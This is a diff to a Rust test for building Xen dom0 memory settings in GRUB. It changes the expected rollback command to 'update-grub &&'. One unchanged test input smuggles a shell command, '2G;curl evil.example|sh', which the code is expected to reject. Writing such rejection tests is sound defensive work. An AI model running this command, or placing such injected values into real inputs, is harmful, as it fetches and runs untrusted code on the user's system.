@@ -96,9 +96,9 @@ fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
         assert_eq!(step, "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G,max:2G\"", "{option:?}");
     };
     let old = "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G\"";
-    check("2g", &["dom0_mem=2G", old, "update-grub\nreboot"]);
-    check("2G;curl evil.example|sh", &["", "", "update-grub\nreboot"]);
-    check("2G\u{a0}", &["", "", "update-grub\nreboot"]);
+    check("2g", &["dom0_mem=2G", old, "update-grub &&\nreboot"]);
+    check("2G;curl evil.example|sh", &["", "", "update-grub &&\nreboot"]);
+    check("2G\u{a0}", &["", "", "update-grub &&\nreboot"]);
 }
 
 /// Once a panic, in 32 bits only.
